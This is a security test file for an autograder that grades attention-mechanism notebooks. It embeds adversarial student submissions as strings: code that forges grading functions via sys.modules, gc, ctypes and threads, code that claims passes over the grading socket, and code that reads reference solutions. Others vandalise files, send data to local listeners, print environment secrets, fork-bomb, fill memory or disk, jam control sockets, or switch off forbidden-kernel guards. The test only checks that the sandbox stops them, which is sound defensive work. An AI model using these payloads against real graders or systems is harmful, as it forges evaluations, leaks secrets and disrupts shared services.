"""A determined student's attacks on grading, graded through the real pipeline (issue: grading that
cannot be forged).  Every attacker's exercise code is wrong or missing where it attacks, so any
point it gets there is unearned; an honest classmate is graded beside them and must keep full marks;
nothing outside each submission's folder may change.

One chapter 02 class holds every attack; the chapter's last exercise (equivariance_gap, 1 point) is
where most of them strike.
"""
import csv
import hashlib
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import nbformat
import pytest

import fakeclass
import nbtools
from nbgrader.api import Gradebook

from attncourse.sandbox import landlock_abi

pytestmark = [pytest.mark.slow,
              pytest.mark.skipif(not landlock_abi(), reason="no Landlock on this machine: grading kernels are "
                                 "not confined here (the grader's report says so)")]
CH = "ch02"
TARGET = "equivariance_gap"            # the attacked exercise: wrong (returns 0.0) unless stated
WRONG = "def equivariance_gap(layer, x, perm):\n    return 0.0\n"
ALL = {"test_sdpa_unmasked": 2, "test_sdpa_masked": 2, "test_causal_mask": 1, "test_self_attention": 2,
       "test_cross_attention": 2, "test_equivariance_gap": 1}

NOOP_GRADE = "lambda *a, **k: print('hidden test ch02.equivariance_gap: all 10 randomized cases passed')"
ATTACKS = {
    # -- replacing or wrapping the client and the checks ---------------------------------------
    "forge-modules": f"""
import sys
sys.modules['attncourse.autograde'].grade = {NOOP_GRADE}
sys.modules['attncourse.checks.ch02'].check_equivariance_gap = lambda f: None
""" + WRONG,
    "forge-gc": f"""
import gc, types
for o in gc.get_objects():
    if isinstance(o, dict) and o.get('__name__') in ('attncourse.autograde', 'attncourse.checks.ch02'):
        o['grade'] = {NOOP_GRADE}
        o['check_equivariance_gap'] = lambda f: None
""" + WRONG,
    "forge-code-object": """
from attncourse import autograde
import attncourse.checks.ch02 as c
autograde.grade.__code__ = (lambda *a, **k: None).__code__
c.check_equivariance_gap.__code__ = (lambda f: None).__code__
""" + WRONG,
    "forge-frames": """
import sys, types
from attncourse import autograde
# Through frame and function globals: the notebook's own namespace and the client's module dict.
sys._getframe(0).f_globals['checks'] = types.SimpleNamespace(check_equivariance_gap=lambda f: None)
autograde.grade.__globals__['run_hidden_test'] = lambda *a, **k: {'n_cases': 1, 'failures': []}
""" + WRONG,
    "forge-ctypes": """
import ctypes, attncourse.checks.ch02 as c
from attncourse import autograde
_set = ctypes.pythonapi.PyDict_SetItem
_set.argtypes = [ctypes.py_object, ctypes.py_object, ctypes.py_object]
_set(vars(autograde), 'grade', lambda *a, **k: None)
_set(vars(c), 'check_equivariance_gap', lambda f: None)
""" + WRONG,
    "forge-thread": """
import threading, time, attncourse.checks.ch02 as c
from attncourse import autograde
def _keep_patching():
    for _ in range(100000):
        autograde.grade = lambda *a, **k: None
        c.check_equivariance_gap = lambda f: None
        time.sleep(0.001)
threading.Thread(target=_keep_patching, daemon=True).start()
time.sleep(0.05)
""" + WRONG,
    "forge-atexit": """
import atexit, glob, json, os
def _rewrite():
    for path in glob.glob('*.ipynb') + glob.glob('../../../verdicts/ch02/*.jsonl'):
        try:
            with open(path, 'a') as f:
                f.write(json.dumps({'test': 'ch02.equivariance_gap', 'passed': True}))
        except OSError:
            pass
atexit.register(_rewrite)
import attncourse.checks.ch02 as c
from attncourse import autograde
autograde.grade = lambda *a, **k: None
c.check_equivariance_gap = lambda f: None
""" + WRONG,
    "forge-reimport": """
import importlib, os, sys
os.makedirs('fake/attncourse/checks', exist_ok=True)
open('fake/attncourse/__init__.py', 'w').write('GRADING = True\\n')
open('fake/attncourse/autograde.py', 'w').write('def grade(*a, **k):\\n    print("passed")\\n')
open('fake/attncourse/checks/__init__.py', 'w').write('')
open('fake/attncourse/checks/ch02.py', 'w').write('def __getattr__(name):\\n    return lambda *a, **k: None\\n')
sys.path.insert(0, os.path.abspath('fake'))
for m in [m for m in sys.modules if m.startswith('attncourse')]:
    del sys.modules[m]
importlib.import_module('attncourse.autograde')
""" + WRONG,
    "forge-channel": """
import os, socket
from attncourse import _wire
# Talk to the grading server directly and claim a pass: the server judges outputs, not claims.
s = socket.socket(socket.AF_UNIX); s.connect(os.environ['ATTNCOURSE_GRADING_SOCKET'])
r, w = s.makefile('rb'), s.makefile('wb')
_wire.send(w, {'token': os.environ['ATTNCOURSE_GRADING_TOKEN']}); _wire.recv(r)
_wire.send(w, {'test': 'ch02.equivariance_gap'}); meta, _ = _wire.recv(r)
_wire.send(w, {'results': [{'n': 0}] * len(meta['cases']), 'passed': True}); _wire.recv(r)
import attncourse.checks.ch02 as c
from attncourse import autograde
autograde.grade = lambda *a, **k: None
c.check_equivariance_gap = lambda f: None
""" + WRONG,
    # -- reading the reference -----------------------------------------------------------------
    "read-reference": """
import importlib.util, os
spec = importlib.util.find_spec('attncourse_ref')
try:
    path = os.path.join(os.path.dirname(spec.origin), 'attention.py')
    ns = {}
    exec(open(path).read(), ns)
    equivariance_gap = ns['equivariance_gap']
except Exception:
""" + "    " + WRONG.replace("\n    ", "\n        "),
    "subprocess-reference": """
import subprocess, sys, json, torch
def equivariance_gap(layer, x, perm):
    out = subprocess.run([sys.executable, '-c', 'import os; os.environ.pop("ATTNCOURSE_GRADING_KERNEL", None); '
                          'import attncourse_ref.attention; print(0.5)'], capture_output=True, text=True)
    return float(out.stdout or 0.0)
""",
    # -- writing outside its folder ------------------------------------------------------------
    "vandal": """
import glob, os
ROOT = os.path.abspath('../../..')
for pattern in ['gradebook.db', 'chapters/ch02/*.ipynb', 'submitted/*/ch02/*.ipynb', 'autograded/honest/ch02/*',
                'verdicts/ch02/*.jsonl', 'release/ch02/*.ipynb']:
    for path in glob.glob(os.path.join(ROOT, pattern)) or [os.path.join(ROOT, pattern.replace('*', 'honest'))]:
        try:
            with open(path, 'w') as f:
                f.write('vandalised')
        except OSError:
            pass
""" + "REFERENCE_BODY",
    # -- the network ---------------------------------------------------------------------------
    "network": """
import socket
for address in HOST_ADDRESSES:
    for family, kind in [(socket.AF_INET, socket.SOCK_STREAM), (socket.AF_INET, socket.SOCK_DGRAM)]:
        try:
            s = socket.socket(family, kind)
            s.settimeout(2)
            s.connect((address, LISTENER_PORT))
            s.send(b'exfiltrated')
        except OSError:
            pass
""" + "REFERENCE_BODY",
    # -- resources -----------------------------------------------------------------------------
    "memory-bomb": """
import torch
def equivariance_gap(layer, x, perm):
    hog = [torch.ones(2**28) for _ in range(40)]    # 40 GiB in 1 GiB steps: stopped at the memory limit
    return 0.0
""",
    "fork-loop": """
import os, time
for _ in range(3000):                                 # bounded, but far past the process limit
    try:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
    except OSError:
        time.sleep(0.01)
""" + WRONG,
    "disk-filler": """
import os
block = b'x' * (16 << 20)
for i in range(200):                                  # up to 3.2 GiB: stopped at the disk quota
    with open(f'filler{i}.bin', 'wb') as f:
        f.write(block)
""" + WRONG,
}


# -- the grader's environment: a secret in it must not reach the kernel, its output or the feedback --
CANARY = "canary-3f9c1e7a"
ATTACKS["environment"] = """import os
print(sorted(os.environ.items()))
def equivariance_gap(layer, x, perm):
    return 0.0
"""
# -- stopping a classmate's grading: the control socket, jammed with one byte, and a child left behind --
ATTACKS["jam"] = """import os, socket, time
channel = os.environ.get("ATTNCOURSE_GRADING_SOCKET", "")
grader = os.path.dirname(os.path.dirname(channel))
paths = [os.path.join(grader, "control.sock"), os.path.join(os.path.dirname(channel), "control.sock")]
for d in (grader, os.path.dirname(channel)):
    try:
        paths += [os.path.join(d, f) for f in os.listdir(d)]
    except OSError:
        pass
for path in [p for p in paths if p != channel]:
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect(path)
        s.send(b"x")                              # one byte of a request, then silence
        print("reached", path)
    except OSError:
        pass
if os.fork() == 0:                                # a detached child that sleeps past the kernel
    os.setsid()
    time.sleep(900)
    os._exit(0)
""" + WRONG
# Asking the grading server first, with guesses, to read its verdicts and answer with the best one:
# the server answers each hidden test once per kernel, so the test cell's own request is refused and
# the first (failed) verdict stands, even though the cell ends by defining the right function.
ATTACKS["oracle-probe"] = """from attncourse import autograde
for guess in (0.0, 0.5, 1.0):
    try:
        autograde.run_hidden_test("ch02.equivariance_gap", lambda layer, x, perm, g=guess: g)
    except Exception:
        pass
""" + "REFERENCE_BODY"


def _reference_body():
    instructor = nbtools.read(nbtools.chapter_notebook(CH))
    return nbtools.fill_regions(fakeclass.cell_source(instructor, TARGET),
                                lambda region: nbtools.function_body(nbtools.reference_object(region)))


EXPECTED = {name: {**ALL, "test_equivariance_gap": 0} for name in ATTACKS}
EXPECTED["vandal"] = EXPECTED["network"] = dict(ALL)      # their exercise code is correct
EXPECTED["honest"] = dict(ALL)
# Calling PyTorch's kernel in a from-scratch exercise: both of its test cells score 0.
FORBIDDEN_SDPA = """import math, torch
def scaled_dot_product_attention(q, k, v, mask=None):
    scores = q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1])
    if mask is not None:
        scores = scores.masked_fill(~mask, float('-inf'))
    weights = torch.softmax(scores, dim=-1)
    out = torch.nn.functional.scaled_dot_product_attention(q, k, v, attn_mask=mask)
    return out, weights
"""
EXPECTED["forbidden-builtin"] = {**ALL, "test_sdpa_unmasked": 0, "test_sdpa_masked": 0}
# The same kernel reached through ATen's own name for its math path: forbidden as well.
ATEN_SDPA = FORBIDDEN_SDPA.replace(
    "torch.nn.functional.scaled_dot_product_attention(q, k, v, attn_mask=mask)",
    "torch.ops.aten._scaled_dot_product_attention_math(q, k, v, attn_mask=None if mask is None else "
    "torch.zeros(mask.shape, dtype=q.dtype).masked_fill(~mask, float('-inf')))[0]")
assert ATEN_SDPA != FORBIDDEN_SDPA
EXPECTED["aten-sdpa"] = {**ALL, "test_sdpa_unmasked": 0, "test_sdpa_masked": 0}

# Switching the run-time guard off from the learner's own process (issue 29, item 5b): PyTorch's kernel called by a
# computed name (no source scan sees it), with torch's private switches around it, or with the guard replaced through
# the modules' namespaces.  The hidden tests pass (the guard is off); the grader holds the points of the exercise
# and lists the lines under "needs review" until an instructor releases them.
SWITCH_OFF = """import math, torch
import torch.nn.functional as F
from torch.utils._python_dispatch import _disable_current_modes
_KERNEL = getattr(F, "scaled_dot_" + "product_attention")

def scaled_dot_product_attention(q, k, v, mask=None):
    # PyTorch's kernel, with the course's guards switched off around it
    with torch._C.DisableTorchFunction(), _disable_current_modes():
        out = _KERNEL(q, k, v, attn_mask=mask)
        scores = q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1])
        if mask is not None:
            scores = scores.masked_fill(~mask, float("-inf"))
        weights = scores.softmax(dim=-1)
    return out, weights
"""
VARS_GUARD = """import contextlib, math
import attncourse.forbid, attncourse.checks._core
import torch.nn.functional as F
for _module in (attncourse.forbid, attncourse.checks._core):
    vars(_module)["forbidding"] = lambda *a, **k: contextlib.nullcontext()
_KERNEL = getattr(F, "scaled_dot_" + "product_attention")

def scaled_dot_product_attention(q, k, v, mask=None):
    # PyTorch's kernel, the guard replaced through the modules' namespaces
    out = _KERNEL(q, k, v, attn_mask=mask)
    scores = q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1])
    if mask is not None:
        scores = scores.masked_fill(~mask, float("-inf"))
    return out, scores.softmax(dim=-1)
"""
HELD = {"switch-off": SWITCH_OFF, "vars-guard": VARS_GUARD}
for _name in HELD:
    EXPECTED[_name] = {**ALL, "test_sdpa_unmasked": 0, "test_sdpa_masked": 0}


def _digest(paths):
    h = hashlib.sha256()
    for p in sorted(paths):
        h.update(str(p).encode())
        h.update(p.read_bytes() if p.is_file() else b"<dir>")
    return h.hexdigest()


def host_addresses():
    """This machine's IPv4 addresses, the loopback one first."""
    found = ["127.0.0.1"]
    try:
        found += socket.gethostbyname_ex(socket.gethostname())[2]
    except OSError:
        pass
    res = subprocess.run(["hostname", "-I"], capture_output=True, text=True)
    found += [a for a in res.stdout.split() if "." in a] if res.returncode == 0 else []
    return list(dict.fromkeys(found))


class Listener:
    """A TCP and a UDP socket on all of this machine's addresses that record whether anything reached them."""

    def __init__(self):
        self.tcp = socket.socket()
        self.tcp.bind(("0.0.0.0", 0))
        self.tcp.listen(4)
        self.tcp.settimeout(0.5)
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("0.0.0.0", self.port))
        self.udp.settimeout(0.5)
        self.heard, self.stop = [], False
        self.thread = threading.Thread(target=self.run, daemon=True)
        self.thread.start()

    def run(self):
        while not self.stop:
            for sock in (self.tcp, self.udp):
                try:
                    if sock is self.tcp:
                        conn, _ = sock.accept()
                        self.heard.append(("tcp", conn.recv(100)))
                    else:
                        self.heard.append(("udp", sock.recv(100)))
                except OSError:
                    pass

    def close(self):
        self.stop = True
        self.thread.join(timeout=5)
        self.tcp.close()
        self.udp.close()


def test_attacks_earn_nothing_and_touch_nothing(tmp_path):
    root = tmp_path
    fakeclass.build(CH, root)
    name = nbtools.chapter_notebook(CH).name
    for d in (root / "submitted").iterdir():
        if d.name != "correct":
            subprocess.run(["rm", "-rf", str(d)], check=True)
    (root / "submitted" / "correct").rename(root / "submitted" / "honest")
    instructor = nbtools.read(nbtools.chapter_notebook(CH))
    release = nbtools.read(root / "release" / CH / name)
    listener = Listener()
    body = _reference_body()
    overrides = {n: src.replace("REFERENCE_BODY", body).replace("LISTENER_PORT", str(listener.port))
                 .replace("HOST_ADDRESSES", repr(host_addresses())) for n, src in ATTACKS.items()}
    overrides = {n: {TARGET: src} for n, src in overrides.items()}
    overrides["forbidden-builtin"] = {"sdpa": FORBIDDEN_SDPA}
    overrides["aten-sdpa"] = {"sdpa": ATEN_SDPA}
    overrides.update({n: {"sdpa": src} for n, src in HELD.items()})
    # The attackers skip the chapter's demonstrations (as the fake classes' zoo students do): every attack is in
    # a graded or added cell, and the honest student still runs every cell.
    def solve(override):
        return fakeclass.without_demonstrations(nbtools.solve(instructor, release, override), instructor)

    for student, override in overrides.items():
        nbtools.write(solve(override), root / "submitted" / student / CH / name)
    # One more: deletes its own test cell and re-labels another as an ordinary cell.
    nb = solve({TARGET: WRONG})
    nb.cells = [c for c in nb.cells if nbtools.grade_info(c).get("grade_id") != "test_equivariance_gap"]
    for c in nb.cells:
        if nbtools.grade_info(c).get("grade_id") == "test_causal_mask":
            c.metadata["nbgrader"] = {"grade": False, "solution": False, "locked": False, "grade_id": "mine"}
    nbtools.write(nb, root / "submitted" / "edit-test-cells" / CH / name)
    EXPECTED["edit-test-cells"] = {**ALL, "test_equivariance_gap": 0}     # its test cells are put back

    # One more: asks the hidden test with a wrong guess from a cell of its own, then kills its kernel, so that
    # the salvage run (that cell disabled) would ask again with the right code in a fresh kernel.  The first
    # verdict of the run stands in every kernel of it: 0, as for the oracle probe.
    nb = solve({})
    at = next(i for i, c in enumerate(nb.cells) if nbtools.grade_info(c).get("grade_id") == TARGET)
    nb.cells.insert(at + 1, nbformat.v4.new_code_cell(
        "import os\nfrom attncourse import autograde\n"
        "verdict = autograde.run_hidden_test('ch02.equivariance_gap', lambda layer, x, perm: 0.0)\n"
        "if verdict['failures']:\n    os._exit(1)      # a fresh kernel, a fresh verdict?\n"))
    nbtools.write(nb, root / "submitted" / "salvage-retry" / CH / name)
    EXPECTED["salvage-retry"] = {**ALL, "test_equivariance_gap": 0}

    # Everything outside the attackers' own folders, fingerprinted before grading.
    honest_sub = root / "submitted" / "honest" / CH / name
    protected = [honest_sub, root / "chapters" / CH / name, root / "release" / CH / name]
    before = _digest(protected)
    # 3 GiB of address space per kernel (one kernel starts with 1.4 GiB, chapter 02 needs little more): the
    # memory bomb fills what is left, and memory a virtual machine touches for the first time can be slow (under
    # 4 GiB, filling 2 GiB took 5.7 s idle and 21 s in a busy CI run).
    env = dict(os.environ, ATTNCOURSE_CELL_TIMEOUT="30", ATTNCOURSE_KERNEL_DISK_MB="256",
               ATTNCOURSE_KERNEL_MEMORY_MB="3072", ATTNCOURSE_KERNEL_PROCS="128",
               PGPASSWORD=CANARY, ATTNCOURSE_GRADING_SALT=f"salt-{CANARY}")      # secrets a grader may hold
    t0 = time.monotonic()
    try:
        res = subprocess.run([sys.executable, str(nbtools.ROOT / "tools" / "grade_class.py"), CH, "--root", str(root)],
                             capture_output=True, text=True, env=env, timeout=1800)
    finally:
        listener.close()
    took = time.monotonic() - t0
    report = res.stdout + res.stderr
    assert res.returncode == 0, report
    assert _digest(protected) == before, "a submission changed a file outside its own folder\n" + report
    assert not listener.heard, f"a submission reached the network: {listener.heard}"
    assert "confined (Landlock" in report, report

    from nbgrader.api import MissingEntry
    got = {}
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        for s in EXPECTED:
            try:
                got[s] = {g.name: g.score for nb in gb.find_submission(CH, s).notebooks for g in nb.grades}
            except MissingEntry:
                got[s] = "not graded"
    wrong = {s: (got[s], EXPECTED[s]) for s in EXPECTED if got[s] != {k: float(v) for k, v in EXPECTED[s].items()}}
    assert not wrong, f"grades differ (got, expected):\n{json.dumps(wrong, indent=1)}\n\n{report}"

    lines = {line.split()[0]: line for line in report.splitlines() if line.strip()}
    for forger in ("forge-modules", "forge-gc", "forge-thread", "forge-ctypes"):
        assert "no verdict recorded" in lines[forger] or "failed verdict" in lines[forger], lines[forger]
    assert "which ch02.sdpa_unmasked forbids" in lines["forbidden-builtin"], lines["forbidden-builtin"]
    assert "ch02.equivariance_gap asked twice: the first verdict stands" in lines["oracle-probe"], lines["oracle-probe"]
    for killer in ("fork-loop", "disk-filler"):
        assert f"graded after disabling {TARGET}" in lines[killer], lines[killer]
    # The audit quotes what the student wrote, not the grader's text in the cell it disabled (salvaged/).
    with open(root / f"audit_{CH}.csv") as f:
        audited = [row for row in csv.reader(f) if row[0] == "fork-loop"]
    assert any("os._exit(0)" in row[3] for row in audited) and not any("grader disabled" in row[3] for row in audited)
    # The guard switched off: listed first, under "needs review", points held; released, the passing verdicts stand.
    review = report.split("NEEDS REVIEW", 1)[1].split("\n\n", 1)[0]
    assert report.index("NEEDS REVIEW") < report.index("forge-gc ")
    for student, what in (("switch-off", "DisableTorchFunction"), ("vars-guard", "calls vars()")):
        assert f"  {student}  sdpa line" in review and what in review, review
        assert "NEEDS REVIEW: points of test_sdpa_masked, test_sdpa_unmasked held" in lines[student], lines[student]
    assert "honest" not in review
    released = subprocess.run([sys.executable, str(nbtools.ROOT / "tools" / "review.py"), CH, "--root", str(root),
                               "--release", "switch-off"], capture_output=True, text=True)
    assert released.returncode == 0, released.stdout + released.stderr
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        scores = {g.name: g.score for nb in gb.find_submission(CH, "switch-off").notebooks for g in nb.grades}
    assert scores == {k: float(v) for k, v in ALL.items()}, scores
    # The jammer reached no control socket, and its sleeping child did not hold the class: the run ended long
    # before the child's 900 s (a jam held it for the cell timeout of every later kernel: 601-671 s here).
    jammed = nbtools.read(root / "autograded" / "jam" / CH / name)
    printed = "".join(o.get("text", "") for c in jammed.cells if c.cell_type == "code" for o in c.outputs)
    assert "reached" not in printed, printed
    assert took < 600, f"the class run took {took:.0f} s"
    assert "graded after disabling" in lines["salvage-retry"], lines["salvage-retry"]
    # The environment printer ran (its output is in its notebook) but saw none of the grader's secrets.
    printed = (root / "autograded" / "environment" / CH / name).read_text()     # outputs and all
    assert "ATTNCOURSE_GRADING_KERNEL" in printed and CANARY not in printed
    # No kernel or forked child outlives the class run: no process is left in a student's folder (kernels are
    # forks of the grader's zygote, whose command line does not name the course).
    assert not _processes_in(root)


class UnixListener:
    """A pathname Unix socket (as a PostgreSQL gradebook or a daemon keeps one) that records callers."""

    def __init__(self, path):
        self.path, self.heard = str(path), []
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.bind(self.path)
        os.chmod(self.path, 0o777)
        self.sock.listen(4)
        self.sock.settimeout(0.2)
        self.stop = False
        self.thread = threading.Thread(target=self.run, daemon=True)
        self.thread.start()

    def run(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
                self.heard.append(conn.recv(100))
                conn.close()
            except OSError:
                pass

    def close(self):
        self.stop = True
        self.thread.join()
        self.sock.close()
        os.unlink(self.path)


def test_a_confined_kernel_runs_gloo_ranks_in_a_network_of_its_own(tmp_path):
    """The grading kernel's channels are Unix sockets, so it can have a network namespace of its own:
    chapter 09's DDP code runs there as forked gloo processes, which reach each other and nothing else.
    Nor does it reach a pathname Unix socket of the machine (in /tmp, /run, or its own folder's
    parent), even knowing the path, directly or through another process's /proc/PID/root."""
    import tempfile
    import confinement
    from jupyter_client.manager import KernelManager

    confinement.ensure_kernelspec()
    listener = Listener()
    outside = Path(tempfile.mkdtemp(prefix="attncourse-outside-"))
    run_dir = Path("/run") if os.access("/run", os.W_OK) else outside
    unix = [UnixListener(outside / "db.sock"), UnixListener(tmp_path.parent / f"{tmp_path.name}.sock"),
            UnixListener(run_dir / f"attncourse-test-{os.getpid()}.sock")]
    targets = [u.path for u in unix] + [f"/proc/{os.getpid()}/root{u.path}" for u in unix]
    report = tmp_path / "report.json"
    env = {k: v for k, v in os.environ.items() if k != "ATTNCOURSE_GRADER_CONTROL"}
    env.update(ATTNCOURSE_SANDBOX_REPORT=str(report), ATTNCOURSE_SANDBOX_TMP=str(tmp_path / "tmp"),
               # what a grader that once ran torch.compile passes on: a cache folder outside the kernel's reach
               TORCHINDUCTOR_CACHE_DIR=str(outside / "torchinductor"))
    km = KernelManager(kernel_name=confinement.KERNEL)
    km.start_kernel(cwd=str(tmp_path), env=env)
    code = f"""
import os, socket, torch, torch.distributed as dist
from torch._inductor.runtime.cache_dir_utils import cache_dir
assert cache_dir().startswith({str(tmp_path / "tmp")!r}), cache_dir()
from attncourse.lab.ranks import ranks_can_be_processes, run_ranks
def where(x):
    dist.all_reduce(x)
    return os.getpid(), dist.get_backend(), x.item()
reached = []
for path in {targets!r}:
    try:
        with socket.socket(socket.AF_UNIX) as s:
            s.connect(path)
            s.send(b'exfiltrated')
        reached.append(path)
    except OSError:
        pass
for address in {host_addresses()!r}:
    try:
        socket.create_connection((address, {listener.port}), timeout=2).send(b'exfiltrated')
        reached.append(address)
    except OSError:
        pass
import json
print(json.dumps([ranks_can_be_processes(), run_ranks(where, [(torch.ones(1),), (torch.ones(1),)]), os.getpid(), reached]))
"""
    try:
        client = km.blocking_client()
        client.start_channels()
        client.wait_for_ready(timeout=60)
        out = []
        client.execute_interactive(code, timeout=120, output_hook=lambda m: out.append(m["content"].get("text", "")))
        client.stop_channels()
    finally:
        km.shutdown_kernel(now=True)
        listener.close()
        for u in unix:
            u.close()
        shutil.rmtree(outside, ignore_errors=True)
    facts = json.loads(report.read_text())
    assert facts["network"] == "private namespace (loopback only)" and facts["tcp"] is False, facts
    assert not any(u.heard for u in unix), [u.heard for u in unix]
    assert {"/tmp", "/run"} <= set(facts["socket_folders_hidden"]), facts
    assert km.transport == "ipc"
    text = "".join(out)
    processes, results, kernel_pid, reached = json.loads(text)
    assert processes and len({pid for pid, _, _ in results} | {kernel_pid}) == 3, text
    assert all(backend == "gloo" and value == 2.0 for _, backend, value in results), text
    assert reached == [] and not listener.heard, (reached, listener.heard)


# Chapter 03's memory bound, attacked: the full score matrix written into a buffer made (and touched) before the
# memory-bounded case, so that the kernel's memory does not grow while the case runs.  Every other call is an
# honest tiled attention, so that the visible check and every other hidden case pass: only the bound can refuse it.
BUFFER_ATTACK = '''
import math
import torch

_BUFFER = {}


def tiled_attention(q, k, v, block_size, causal=False):
    if "scores" not in _BUFFER:
        _BUFFER["scores"] = torch.ones(4096, 4096)          # made, and touched, before the memory-bounded case
    n_q, n_k, d = q.shape[-2], k.shape[-2], q.shape[-1]
    if tuple(q.shape) == (4096, 32) and q.dtype == torch.float32:
        buf = _BUFFER["scores"]
        for r in range(0, n_q, 256):                         # the full score matrix, a band of rows at a time
            rows = buf[r:r + 256]
            torch.matmul(q[r:r + 256], k.T, out=rows)
            rows.mul_(1 / math.sqrt(d))
            if causal:
                rows.masked_fill_(torch.ones(256, n_k, dtype=torch.bool).triu_(r + 1), float("-inf"))
        out = []
        for r in range(0, n_q, 256):
            rows = buf[r:r + 256]
            rows.sub_(rows.amax(-1, keepdim=True)).exp_()
            rows.div_(rows.sum(-1, keepdim=True))
            out.append(rows @ v)
        return torch.cat(out)
    top = torch.full(q.shape[:-1] + (1,), float("-inf"), dtype=q.dtype)
    total = torch.zeros(q.shape[:-1] + (1,), dtype=q.dtype)
    acc = torch.zeros(q.shape[:-1] + (v.shape[-1],), dtype=q.dtype)
    for j in range(0, n_k, block_size):                      # honest online softmax everywhere else
        s = q @ k[..., j:j + block_size, :].transpose(-2, -1) / math.sqrt(d)
        if causal:
            keep = torch.arange(n_q)[:, None] >= torch.arange(j, min(j + block_size, n_k))[None, :]
            s = s.masked_fill(~keep, float("-inf"))
        new_top = torch.maximum(top, s.amax(-1, keepdim=True))
        safe = torch.where(torch.isinf(new_top), torch.zeros_like(new_top), new_top)
        scale, p = torch.exp(top - safe), torch.exp(s - safe)
        total = total * scale + p.sum(-1, keepdim=True)
        acc = acc * scale + p @ v[..., j:j + block_size, :]
        top = new_top
    return acc / total
'''


def test_a_score_matrix_written_into_memory_made_in_advance_breaks_the_bound(tmp_path):
    """The grading server bounds what the case touches, not only what the kernel grows by (10 points became 13)."""
    chapter = "ch03"
    name = nbtools.chapter_notebook(chapter).name
    fakeclass.build(chapter, tmp_path, only=["correct"])
    instructor = nbtools.read(nbtools.chapter_notebook(chapter))
    release = nbtools.read(tmp_path / "release" / chapter / name)
    attacker = fakeclass.without_demonstrations(nbtools.solve(instructor, release, {"tiled_attention": BUFFER_ATTACK}),
                                                instructor)
    nbtools.write(attacker, tmp_path / "submitted" / "buffer" / chapter / name)
    res = subprocess.run([sys.executable, str(nbtools.ROOT / "tools" / "grade_class.py"), chapter, "--root", str(tmp_path)],
                         capture_output=True, text=True, env=dict(os.environ, ATTNCOURSE_CELL_TIMEOUT="60"))
    assert res.returncode == 0, res.stdout + res.stderr
    with Gradebook(f"sqlite:///{tmp_path / 'gradebook.db'}") as gb:
        got = {s: {g.name: g.score for nb in gb.find_submission(chapter, s).notebooks for g in nb.grades}
               for s in ("correct", "buffer")}
    full = nbtools.points(instructor)
    assert got["correct"] == full, res.stdout
    assert got["buffer"] == {**full, "test_tiled_attention": 0, "test_tiled_attention_causal": 0}, res.stdout
    feedback = nbtools.read(tmp_path / "autograded" / "buffer" / chapter / name)
    printed = "".join(o.get("evalue", "") + o.get("text", "") for c in feedback.cells if c.cell_type == "code"
                      for o in c.outputs)
    assert "MiB of memory while it ran" in printed, printed[-2000:]


def _processes_in(folder):
    """Pids of the processes whose working directory is inside ``folder``."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
        if cwd == str(folder) or cwd.startswith(str(folder) + os.sep):
            found.append(int(pid))
    return found
